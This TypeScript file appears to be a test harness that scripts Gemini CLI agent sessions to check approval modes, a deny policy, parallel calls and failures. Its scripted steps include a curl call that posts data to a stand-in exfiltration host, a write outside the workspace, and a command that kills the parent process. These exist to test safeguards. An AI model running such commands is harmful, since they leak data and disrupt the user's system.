/** The scripted sessions of Gemini CLI. It makes `TOOL__ID` of the model's call ids. */
import fs from 'node:fs';
import path from 'node:path';
import { startGenerate } from './model/generate.ts';
import { ROUNDS_OF_CALLS } from './parallel.ts';
import type { Scripted } from './script.ts';
import type { Agent, Place } from './session.ts';
import { play, SECOND, type Step, say, shell, step, think, together } from './steps.ts';

export const PROMPT = 'Fix add() in app.py, record a todo, then check connectivity. Ω';
export const FINAL = 'All done: add() fixed, todo recorded, connectivity checked.';

const named = (id: string, name: string, input: object, more: Partial<Scripted> = {}): Step =>
  step(id, name, input, { id: `${name}__${id}`, ...more });

const run = (id: string, command: string, exitCode?: number, more: Partial<Scripted> = {}): Step =>
  shell('run_shell_command', id, command, exitCode, { id: `run_shell_command__${id}`, ...more });

/** With everything allowed. */
export function yoloSteps({ workspace: w, target, dir }: Place): readonly Step[] {
  const outside = path.join(dir, 'outside/file');
  return [
    together(
      think('I first list the repository.'),
      say('I will look around first.'),
      run('fc_01', 'echo hello && ls -la', 0, { programs: ['ls'] }),
    ),
    // It takes the shell away, and runs what is inside in its own.
    run('fc_02_exit3', 'sh -c "echo out; echo err >&2; exit 3"', 3, {
      command: 'echo out; echo err >&2; exit 3',
    }),
    named('fc_05_read', 'read_file', { file_path: path.join(w, 'app.py') }),
    run('fc_03_big', 'seq 1 20000', 0, { programs: ['seq'] }),
    named(
      'fc_04_write',
      'write_file',
      { file_path: path.join(w, 'notes/todo.md'), content: '# todo\n- rotate keys\n' },
      { files: ['notes/todo.md'] },
    ),
    named(
      'fc_06_edit',
      'replace',
      {
        file_path: path.join(w, 'app.py'),
        old_string: 'return a - b',
        new_string: 'return a + b',
        instruction: 'Fix add so that it adds',
      },
      { files: ['app.py'] },
    ),
    run('fc_07_shellwrite', 'echo by-shell > via_shell.txt && cat via_shell.txt', 0, {
      files: ['via_shell.txt'],
      programs: ['cat'],
    }),
    run('fc_08_curl', `curl -sS -m 5 ${target}/ping`, 0, { programs: ['curl'] }),
    run('fc_09_evil', 'curl -sS -m 5 -d s=1 http://evil.invalid/exfil', 6, { programs: ['curl'] }),
    named(
      'fc_10_outside',
      'write_file',
      { file_path: outside, content: 'pwned\n' },
      { outcome: 'failure' },
    ),
    together(
      run('fc_11', 'echo parallel-A; sleep 0.3', 0, { programs: ['sleep'] }),
      run('fc_12', 'echo parallel-B; sleep 0.3', 0, { programs: ['sleep'] }),
    ),
    named('fc_13_unknown', 'no_such_tool', { a: 1 }, { outcome: 'failure' }),
    say(FINAL),
  ];
}

/** With a policy: one command is allowed, one is denied. */
export const policySteps: readonly Step[] = [
  run('fc_p1', 'echo hello', 0),
  run('fc_p2', 'curl -sS -m 5 http://evil.invalid/exfil'),
  say(FINAL),
];

const POLICY = `[[rule]]
toolName = "run_shell_command"
commandRegex = ".*evil\\\\.invalid.*"
decision = "deny"
priority = 900
denyMessage = "the host is not allowed"

[[rule]]
toolName = "run_shell_command"
commandPrefix = ["echo"]
decision = "allow"
priority = 500
`;

const playing = (steps: readonly Step[]) =>
  startGenerate(play({ steps, tool: 'run_shell_command', prompt: 'Fix add()' }));

/** A user's own settings. */
function userSettings({ dir }: Place): string {
  const file = path.join(dir, 'home/.gemini/settings.json');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  const settings = {
    security: { auth: { selectedType: 'gemini-api-key' } },
    general: { enableAutoUpdate: false, enableAutoUpdateNotification: false },
    privacy: { usageStatisticsEnabled: false },
  };
  fs.writeFileSync(file, JSON.stringify(settings));
  return file;
}

const environment = (url: string): Readonly<Record<string, string>> => ({
  GEMINI_API_KEY: 'none',
  GOOGLE_GEMINI_BASE_URL: url,
  NO_BROWSER: '1',
  GEMINI_CLI_NO_RELAUNCH: 'true',
  GEMINI_CLI_TRUST_WORKSPACE: 'true',
});

const flags = (mode: string) => ['-m', 'gemini-2.5-pro', '--approval-mode', mode, '--skip-trust'];

/** Everything allowed; then a second prompt in the same conversation. */
export const yolo = (command: string): Agent => ({
  model: (place) => playing(yoloSteps(place)),
  configure: (place) => [userSettings(place)],
  runs(_place, model) {
    const env = environment(model.url);
    const first = [...flags('yolo'), '-p', PROMPT];
    const second = [...flags('yolo'), '-r', 'latest', '-p', SECOND];
    return [first, second].map((args) => ({ argv: [command, ...args], env }));
  },
});

/** A policy in force. */
export const policed = (command: string): Agent => ({
  model: () => playing(policySteps),
  configure: (place) => [userSettings(place)],
  runs(place, model) {
    const file = path.join(place.dir, 'policy.toml');
    fs.writeFileSync(file, POLICY);
    const argv = [command, ...flags('default'), '--policy', file, '-p', PROMPT];
    return [{ argv, env: environment(model.url) }];
  },
});

/** One run with other steps, everything allowed. */
const bare =
  (steps: readonly Step[] | { readonly status: number }) =>
  (command: string): Agent => ({
    model: () => ('status' in steps ? startGenerate(() => steps) : playing(steps)),
    configure: (place) => [userSettings(place)],
    runs: (_place, model) => [
      { argv: [command, ...flags('yolo'), '-p', PROMPT], env: environment(model.url) },
    ],
  });

/** The call kills the agent that made it, when that had time to say so. */
export const KILLER = run('fc_killer', 'sleep 1; kill -9 $PPID; sleep 1', 0);
export const killed = bare([KILLER]);
/** Calls at the same time. */
export const parallelSteps: readonly Step[] = [
  ...ROUNDS_OF_CALLS.map((round) =>
    together(...round.map(({ mark, command }) => run(`fc_${mark}`, command, 0))),
  ),
  say(FINAL),
];
export const parallel = bare(parallelSteps);
/** The model refuses every request. */
export const failing = bare({ status: 400 });
